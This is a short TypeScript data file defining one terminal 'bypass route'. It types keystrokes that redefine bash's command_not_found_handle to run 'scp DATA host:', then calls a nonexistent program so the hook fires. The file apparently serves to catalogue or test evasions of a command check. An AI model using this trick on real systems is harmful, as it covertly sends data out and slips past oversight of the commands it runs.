import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by the handler of unknown commands',
  source: 'thought of with the keys of the line editor',
  keys: ['command_not_found_handle() { scp DATA host:; }\r', 'nosuchprogram\r'],
};
